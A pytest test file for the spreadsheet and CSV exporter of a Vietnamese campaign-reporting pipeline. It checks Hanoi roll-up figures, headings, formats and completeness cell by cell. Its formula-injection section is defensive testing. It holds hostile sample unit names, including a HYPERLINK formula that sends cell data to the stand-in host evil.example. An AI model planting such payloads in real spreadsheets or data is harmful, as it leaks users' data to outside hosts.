"""The upper-level report: built from real roll-up frames, opened back, checked cell by cell."""

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import openpyxl
import polars as pl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from dvkn_pipeline.judging.facts import empty_facts
from dvkn_pipeline.reference.catalogue import load_catalogue
from dvkn_pipeline.reference.hierarchy import Hierarchy, load_hierarchies
from dvkn_pipeline.reference.periods import Period
from dvkn_pipeline.rollup.spatial import completeness, rollup
from dvkn_pipeline.rollup.temporal import temporal_rollup
from dvkn_pipeline.storage.tables import ledger_polars_schema
from dvkn_pipeline.views.export import COVER_SHEET, CSV_COLUMNS, export_csv, export_xlsx, safe_text

CAT = load_catalogue()
Q1 = Period.parse("2025-Q1")
HANOI = load_hierarchies().for_date(Q1.reference_date).subtree("01")
ON_TIME = datetime(2025, 3, 16, tzinfo=UTC)
LATE = datetime(2025, 3, 25, tzinfo=UTC)
SHEETS = [
    COVER_SHEET,
    "Mô hình 1",
    "Mô hình 2",
    "Mô hình 3",
    "Đóng góp",
    "Đối thoại",
    "Nông thôn mới",
    "Gia đình văn hóa",
]

# Names a hostile or careless data file could carry.
EVIL = {
    "001": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "002": "+1",
    "003": "-2+3",
    "004": "@SUM(A1:A9)",
    "005": "\tTab",
    "006": "\r=1+1",
}


def fact(
    unit: str, indicator: str, value: float, period: Period = Q1, **dims: str
) -> dict[str, Any]:
    return {
        "submission_id": f"{unit}{period.code}".ljust(64, "0"),
        "unit_code": unit,
        "period": period.code,
        "indicator": indicator,
        **{d: dims.get(d) for d in CAT.dimension_columns},
        "value": float(value),
    }


def ledger_row(
    unit: str, status: str, at: datetime = ON_TIME, period: Period = Q1, n: int = 1
) -> dict[str, Any]:
    sub = f"{unit}{period.code}{n}".ljust(64, "0")
    return {
        "upload_id": f"{unit}/{period.code}/{n}#e",
        "key": f"incoming/{unit}/{period.code}/{n}.csv",
        "etag": "e",
        "sha256": sub,
        "size": 10,
        "uploader": None,
        "received_at": at,
        "processed_at": at,
        "status": status,
        "unit_code": unit,
        "period": period.code,
        "report_version": 1,
        "submission_id": sub if status != "rejected" else None,
        "n_errors": 0,
        "n_warnings": 0,
        "receipt_key": "r",
        "archive_key": None,
        "flow_run_id": None,
    }


FACTS = [
    # District 001 (Ba Đình): two communes and the district's own models.
    fact("00001", "MH_DANG_KY", 3, field="KT", level="CS"),
    fact("00001", "MH_DANG_KY", 2, field="VHXH", level="CS"),
    fact("00004", "MH_DANG_KY", 4, field="KT", level="CS"),
    fact("001", "MH_DANG_KY", 10, field="QPAN", level="HUYEN"),
    fact("00001", "MH_CONG_NHAN", 1179, field="KT", level="CS", holder="TT"),
    fact("00001", "MH_CONG_NHAN", 221, field="KT", level="CS", holder="CN"),
    fact("00001", "TIEN_VAN_DONG", 21_000_000_000),
    fact("00004", "DAT_HIEN", 3_864_463.5),
    fact("00001", "NTM_MUC_DAT", 1, category="NANG_CAO"),
    fact("00004", "NTM_MUC_DAT", 1, category="KIEU_MAU"),
    fact("00001", "GD_VAN_HOA_DAT", 90),
    fact("00001", "GD_TONG_SO", 100),
    fact("00004", "GD_VAN_HOA_DAT", 100),
    fact("00004", "GD_TONG_SO", 1000),
    # District 002 (Hoàn Kiếm): one commune.
    fact("00070", "MH_DANG_KY", 5, field="VHXH", level="CS"),
    # The city's own models.
    fact("01", "MH_DANG_KY", 7, field="XDHTCT", level="TINH"),
]
LEDGER = [
    ledger_row("00001", "accepted"),
    ledger_row("00004", "accepted", at=LATE),
    ledger_row("00006", "rejected"),
    ledger_row("00070", "accepted"),
    ledger_row("001", "accepted"),
    ledger_row("01", "accepted"),
]


def frames(
    tree: Hierarchy = HANOI, period: Period = Q1, facts_rows: list[dict[str, Any]] | None = None
) -> tuple[pl.DataFrame, pl.DataFrame]:
    facts = pl.DataFrame(
        FACTS if facts_rows is None else facts_rows, schema=empty_facts(CAT).schema
    )
    ledger = pl.DataFrame(LEDGER, schema=ledger_polars_schema())
    return rollup(facts, tree, CAT, period), completeness(ledger, tree, CAT, period)


def open_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def find_row(ws: Worksheet, column: int, text: str) -> int:
    for row in range(1, ws.max_row + 1):
        if ws.cell(row, column).value == text:
            return row
    raise AssertionError(f"{text!r} not in column {column} of {ws.title}")


def find_cell_right(ws: Worksheet, row: int) -> int:
    """The column of the first value right of the label in column A."""
    return next(c for c in range(2, ws.max_column + 1) if ws.cell(row, c).value)


def machine_row(ws: Worksheet) -> int:
    """Sheets carry each column's machine key in one hidden row under the headings."""
    row = find_row(ws, 1, "unit_code")
    assert ws.row_dimensions[row].hidden
    return row


def column_of(ws: Worksheet, key: str) -> int:
    row = machine_row(ws)
    for col in range(1, ws.max_column + 1):
        if ws.cell(row, col).value == key:
            return col
    raise AssertionError(f"no column {key!r} in {ws.title}")


def data_codes(ws: Worksheet) -> list[str]:
    return [
        ws.cell(r, 1).value
        for r in range(machine_row(ws) + 1, ws.max_row + 1)
        if ws.cell(r, column_of(ws, "row_role")).value
    ]


def headings(ws: Worksheet, key: str) -> list[tuple[str, str]]:
    """The (vi, en) headings over column ``key``, outermost first (merged cells resolved)."""
    col, bottom = column_of(ws, key), machine_row(ws)
    top = find_row(ws, 1, "Mã đơn vị\nCode")
    out: list[tuple[str, str]] = []
    for row in range(top, bottom):
        value = ws.cell(row, col).value
        for rng in ws.merged_cells.ranges:
            if (row, col) in {(r, c) for r, c in rng.cells}:
                value = ws.cell(rng.min_row, rng.min_col).value
        if value is not None:
            vi, en = value.split("\n")
            if (vi, en) not in out:
                out.append((vi, en))
    return out


def cell(ws: Worksheet, unit: str, key: str) -> Any:
    """The figure of ``unit`` (its total row, for a unit that has its own report too)."""
    roles = column_of(ws, "row_role")
    rows = [
        r
        for r in range(machine_row(ws) + 1, ws.max_row + 1)
        if ws.cell(r, 1).value == unit and not str(ws.cell(r, roles).value).startswith("own|")
    ]
    return ws.cell(rows[0], column_of(ws, key))


@pytest.fixture(scope="module")
def district_report() -> openpyxl.Workbook:
    table, comp = frames()
    return open_xlsx(export_xlsx(table, comp, HANOI, CAT, Q1, "district"))


# -- the cover -------------------------------------------------------------------------


def test_sheets_are_the_cover_then_one_per_catalogue_section(
    district_report: openpyxl.Workbook,
) -> None:
    assert district_report.sheetnames == SHEETS


def test_cover_names_unit_period_hierarchy_and_completeness(
    district_report: openpyxl.Workbook,
) -> None:
    # The layout pinned here changed with issue 13: a letterhead above, facts in merged cells.
    ws = district_report[COVER_SHEET]
    assert ws["A6"].value == 'BÁO CÁO\nKết quả phong trào thi đua "Dân vận khéo" quý I năm 2025'
    first = find_row(ws, 1, "Đơn vị tổng hợp / Aggregating unit")
    value = find_cell_right(ws, first)
    assert [ws.cell(first + i, value).value for i in range(7)] == [
        "Thành phố Hà Nội (01)",
        "Quý I/2025 (Quarter 1 of 2025, 2025-Q1)",
        "Quận/Huyện / District",
        "vn-3level-2025-01",
        CAT.version,
        # 1 of 30 districts and 3 of 526 communes sent an accepted report.
        "1/30 quận/huyện, 3/526 xã/phường đã báo cáo hợp lệ",
        "1/30 districts, 3/526 communes reported (accepted of expected)",
    ]
    assert ws.cell(first + 5, 1).value == "Tình hình báo cáo / Completeness"


def test_cover_completeness_table_cell_by_cell(district_report: openpyxl.Workbook) -> None:
    ws = district_report[COVER_SHEET]
    head = find_row(ws, 1, "Kỳ\nPeriod")
    cells = [ws.cell(head, c).value for c in range(1, ws.max_column + 1)]
    assert [v.split("\n")[0] for v in cells if v] == [
        "Kỳ",
        "Cấp báo cáo",
        "Phải báo cáo",
        "Đã nhận",
        "Hợp lệ",
        "Bị từ chối",
        "Đúng hạn",
        "Trễ hạn",
        "Chưa báo cáo",
        "Tỷ lệ hợp lệ (%)",
    ]
    assert "Phải báo cáo\nExpected" in cells

    # Issue 13: the table sits on the cover's grid (its first cell spans the code and name
    # columns of the per-unit table below), and levels read in Vietnamese only.
    def values(r: int) -> list[Any]:
        return [v for c in range(1, ws.max_column + 1) if (v := ws.cell(r, c).value) is not None]

    rows = {values(r)[1]: r for r in range(head + 1, head + 4)}
    assert list(rows) == ["Tỉnh/Thành phố", "Quận/Huyện", "Xã/Phường/Thị trấn"]
    commune = values(rows["Xã/Phường/Thị trấn"])
    #                                   expected rec acc rej on_time late missing
    assert commune[:9] == ["2025-Q1", "Xã/Phường/Thị trấn", 526, 4, 3, 1, 2, 1, 522]
    assert values(rows["Quận/Huyện"])[2:9] == [30, 1, 1, 0, 1, 0, 29]
    share = ws.cell(rows["Xã/Phường/Thị trấn"], ws.max_column)
    assert share.value == pytest.approx(100 * 3 / 526) and share.number_format == "0.00"


def test_cover_lists_each_units_completeness(district_report: openpyxl.Workbook) -> None:
    ws = district_report[COVER_SHEET]
    r = find_row(ws, 1, "Tình hình báo cáo theo đơn vị / Completeness by unit")
    rows = [
        [ws.cell(i, c).value for c in range(1, 9)]
        for i in range(r + 2, ws.max_row + 1)
        if ws.cell(i, 1).value == "001"
    ]
    assert rows == [
        ["001", "Quận Ba Đình", "2025-Q1", "Quận/Huyện", 1, 1, 1, 0],
        ["001", "Quận Ba Đình", "2025-Q1", "Xã/Phường/Thị trấn", 13, 3, 2, 1],
    ]


# -- the section sheets ---------------------------------------------------------------


def test_models_sheet_has_a_row_per_district_then_the_city_total(
    district_report: openpyxl.Workbook,
) -> None:
    # Issue 13: the city's own report is a row before the total, headings are "vi\nen".
    ws = district_report["Mô hình 1"]
    assert ws["A6"].value == (
        'Biểu 1.1: Mô hình "Dân vận khéo": Số mô hình "Dân vận khéo" đăng ký quý I năm 2025'
    )
    assert headings(ws, "MH_DANG_KY") == [
        ('Số mô hình "Dân vận khéo" đăng ký (mô hình)', "Models registered (models)"),
        ("Tổng số", "Total"),
    ]
    # A wide section prints one sheet per indicator (issue 13: legible on A4).
    assert headings(district_report["Mô hình 2"], "MH_CONG_NHAN[field=KT,holder=CN]")[1:] == [
        ("Chia theo lĩnh vực và chủ thể", "By field and holder"),
        ("Kinh tế", "Economy"),
        ("Cá nhân", "Individual"),
    ]
    codes = data_codes(ws)
    assert codes == [u.code for u in HANOI.units_at("district")] + ["01", "01"]
    first = machine_row(ws) + 1
    assert ws.cell(first, 2).value == "Quận Ba Đình"
    assert ws.cell(first + 30, 2).value == "Báo cáo của cấp thành phố: Thành phố Hà Nội"
    assert ws.cell(first + 31, 2).value == "Tổng cộng: Thành phố Hà Nội"
    c = cell(ws, "001", "MH_DANG_KY")
    assert c.value == 3 + 2 + 4 + 10 and c.data_type == "n" and c.number_format == "#,##0"
    assert cell(ws, "002", "MH_DANG_KY").value == 5
    assert cell(ws, "01", "MH_DANG_KY").value == 3 + 2 + 4 + 10 + 5 + 7
    assert cell(ws, "01", "MH_DANG_KY").font.b  # the total row is bold
    assert (
        cell(district_report["Mô hình 2"], "001", "MH_CONG_NHAN").value == 1400
    )  # 1,179 collectives + 221 individuals
    assert cell(ws, "003", "MH_DANG_KY").value is None  # no report: blank, not 0


def test_money_and_land_keep_their_precision_and_formats(
    district_report: openpyxl.Workbook,
) -> None:
    ws = district_report["Đóng góp"]
    money = cell(ws, "001", "TIEN_VAN_DONG")
    assert money.value == 21_000_000_000 and money.number_format == "#,##0"
    land = cell(ws, "001", "DAT_HIEN")
    assert land.value == 3_864_463.5 and land.number_format == "#,##0.00"


def test_status_columns_count_units_per_category(district_report: openpyxl.Workbook) -> None:
    ws = district_report["Nông thôn mới"]
    assert cell(ws, "001", "NTM_MUC_DAT:NANG_CAO").value == 1
    assert cell(ws, "001", "NTM_MUC_DAT:KIEU_MAU").value == 1
    assert cell(ws, "001", "NTM_MUC_DAT:DAT_CHUAN").value == 0  # reported: zero in this one
    assert cell(ws, "002", "NTM_MUC_DAT:DAT_CHUAN").value is None  # nothing reported
    vi = [h[0] for h in headings(ws, "NTM_MUC_DAT:KIEU_MAU")]
    assert vi == ["Mức đạt chuẩn nông thôn mới của xã (xã)", "Nông thôn mới kiểu mẫu"]


def test_ratio_sits_beside_its_numerator_and_denominator(
    district_report: openpyxl.Workbook,
) -> None:
    ws = district_report["Gia đình văn hóa"]
    assert cell(ws, "001", "TL_GD_VAN_HOA").value == pytest.approx(100 * 190 / 1100)
    assert cell(ws, "001", "TL_GD_VAN_HOA").number_format == "0.00"
    assert cell(ws, "001", "TL_GD_VAN_HOA:numerator").value == 190
    assert cell(ws, "001", "TL_GD_VAN_HOA:denominator").value == 1100
    assert headings(ws, "TL_GD_VAN_HOA:denominator")[-1][0] == "Mẫu số: Tổng số hộ gia đình"


def test_city_level_is_one_row_and_units_pick_rows_in_order() -> None:
    table, comp = frames()
    ws = open_xlsx(export_xlsx(table, comp, HANOI, CAT, Q1, "city"))["Mô hình 1"]
    assert data_codes(ws) == ["01"]
    assert cell(ws, "01", "MH_DANG_KY").value == 31
    picked = open_xlsx(export_xlsx(table, comp, HANOI, CAT, Q1, "commune", ["00004", "00001"]))
    ws = picked["Mô hình 1"]
    assert data_codes(ws) == ["00004", "00001"]
    assert cell(ws, "00001", "MH_DANG_KY").value == 5


def test_empty_frames_still_give_a_report_that_says_so() -> None:
    wb = open_xlsx(export_xlsx(pl.DataFrame(), pl.DataFrame(), HANOI, CAT, Q1, "district"))
    cover = wb[COVER_SHEET]
    label = find_row(cover, 1, "Tình hình báo cáo / Completeness")
    assert cover.cell(label, find_cell_right(cover, label)).value == "chưa có dữ liệu"
    assert find_row(cover, 1, "Chưa có dữ liệu / no data")
    assert cell(wb["Mô hình 1"], "001", "MH_DANG_KY").value is None


def test_a_quarter_built_from_months_shows_each_months_completeness() -> None:
    months = [Period.parse(f"2025-M0{m}") for m in (1, 2, 3)]
    tables, comps = {}, []
    for i, p in enumerate(months):
        facts = [fact("00001", "QUA_TANG", 10 * (i + 1), period=p)]
        ledger = pl.DataFrame(
            [
                ledger_row(u, "accepted", datetime(2025, i + 1, 15, tzinfo=UTC), p)
                for u in (["00001", "00004"] if i else ["00001"])
            ],
            schema=ledger_polars_schema(),
        )
        f = pl.DataFrame(facts, schema=empty_facts(CAT).schema)
        tables[p.code] = rollup(f, HANOI, CAT, p)
        comps.append(completeness(ledger, HANOI, CAT, p))
    quarter = temporal_rollup(tables, Q1, CAT)
    wb = open_xlsx(export_xlsx(quarter, pl.concat(comps), HANOI, CAT, Q1, "district"))
    cover = wb[COVER_SHEET]
    label = find_row(cover, 1, "Tình hình báo cáo / Completeness")
    assert cover.cell(label, find_cell_right(cover, label)).value == (
        "2025-M01: 0/30 quận/huyện, 1/526 xã/phường; "
        "2025-M02: 0/30 quận/huyện, 2/526 xã/phường; "
        "2025-M03: 0/30 quận/huyện, 2/526 xã/phường đã báo cáo hợp lệ"
    )
    ws = wb["Đóng góp"]
    assert cell(ws, "001", "QUA_TANG").value == 60


def test_frames_of_another_period_or_hierarchy_are_refused() -> None:
    table, comp = frames()
    with pytest.raises(ValueError, match="not 2025-Q2"):
        export_xlsx(table, comp, HANOI, CAT, Period.parse("2025-Q2"), "district")
    q3 = Period.parse("2025-Q3")
    two_level = load_hierarchies().for_date(q3.reference_date).subtree("01")
    with pytest.raises(ValueError, match="level 'district' is not in hierarchy vn-2level"):
        export_xlsx(pl.DataFrame(), pl.DataFrame(), two_level, CAT, q3, "district")
    relabelled = table.with_columns(pl.lit("2025-Q3").alias("period"))
    with pytest.raises(ValueError, match="unit codes would name the wrong units"):
        export_csv(relabelled, two_level, CAT, q3, "commune")


# -- formula injection ---------------------------------------------------------------


def hostile_hanoi() -> Hierarchy:
    units = [replace(u, name=EVIL[u.code]) if u.code in EVIL else u for u in HANOI]
    return Hierarchy(HANOI.version_id, HANOI.valid_from, HANOI.valid_to, HANOI.levels, units)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("Phường Phúc Xá", "Phường Phúc Xá"),
        ("Xã 1-2", "Xã 1-2"),
        ("", ""),
    ],
)
def test_safe_text_prefixes_only_what_could_start_a_formula(text: str, expected: str) -> None:
    assert safe_text(text) == expected


def test_no_exported_cell_is_a_formula_whatever_the_unit_names() -> None:
    tree = hostile_hanoi()
    table, comp = frames(tree)
    data = export_xlsx(table, comp, tree, CAT, Q1, "district")
    wb = open_xlsx(data)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str) and c.value and c.value[0] in "=+-@\t\r":
                    raise AssertionError(f"{ws.title}!{c.coordinate} starts a formula: {c.value!r}")
    ws = wb["Mô hình 1"]
    assert ws.cell(find_row(ws, 1, "001"), 2).value == "'" + EVIL["001"]
    assert ws.cell(find_row(ws, 1, "002"), 2).value == "'+1"
    assert ws.cell(find_row(ws, 1, "004"), 2).value == "'@SUM(A1:A9)"
    cover = wb[COVER_SHEET]
    assert "'" + EVIL["001"] in [cover.cell(r, 2).value for r in range(1, cover.max_row + 1)]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


# -- CSV ---------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads Vietnamese right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_the_sheets_rows_in_long_form() -> None:
    table, _ = frames()
    rows = read_csv(export_csv(table, HANOI, CAT, Q1, "district"))
    assert list(rows[0]) == list(CSV_COLUMNS)
    # Issue 13: a row per sheet cell (breakdowns too), and the city's own report.
    dims = ("field", "model_level", "holder")
    totals = [r for r in rows if not any(r[d] for d in dims)]
    per_unit = len(CAT.indicators) - 1 + len(CAT.model.dimensions["ntm_standard"].values)
    assert len(totals) == 32 * per_unit  # 30 districts, the city's own report, the total
    assert {r["row_kind"] for r in rows} == {"unit", "own", "total"}
    got = {
        (r["unit_code"], r["indicator"], r["category"]): r for r in totals if r["row_kind"] != "own"
    }
    own = {(r["indicator"], r["model_level"]): r["value"] for r in rows if r["row_kind"] == "own"}
    assert own[("MH_DANG_KY", "TINH")] == "7" and own[("MH_DANG_KY", "CS")] == "0"
    by_field = {
        r["field"]: r["value"]
        for r in rows
        if r["unit_code"] == "001" and r["indicator"] == "MH_DANG_KY" and r["field"]
    }
    assert by_field == {"KT": "7", "VHXH": "2", "QPAN": "10", "XDHTCT": "0"}
    reg = got[("001", "MH_DANG_KY", "")]
    assert reg["unit_name"] == "Quận Ba Đình" and reg["value"] == "19"
    assert reg["name_vi"] == 'Số mô hình "Dân vận khéo" đăng ký'
    assert reg["name_en"] == "Models registered"
    assert got[("001", "DAT_HIEN", "")]["value"] == "3864463.5"
    assert got[("001", "NTM_MUC_DAT", "KIEU_MAU")]["value"] == "1"
    assert got[("001", "NTM_MUC_DAT", "DAT_CHUAN")]["value"] == "0"
    assert got[("002", "NTM_MUC_DAT", "DAT_CHUAN")]["value"] == ""
    ratio = got[("001", "TL_GD_VAN_HOA", "")]
    assert float(ratio["value"]) == pytest.approx(100 * 190 / 1100)
    assert (ratio["numerator"], ratio["denominator"]) == ("190", "1100")
    assert got[("01", "MH_DANG_KY", "")]["value"] == "31"
    assert got[("003", "MH_DANG_KY", "")]["value"] == ""


def test_csv_guards_text_against_formulas() -> None:
    tree = hostile_hanoi()
    table, _ = frames(tree)
    rows = read_csv(export_csv(table, tree, CAT, Q1, "district"))
    names = {r["unit_code"]: r["unit_name"] for r in rows}
    for code, evil in EVIL.items():
        assert names[code] == "'" + evil
    for r in rows:
        for v in r.values():
            assert not v or v[0] not in "=+-@\t\r", r
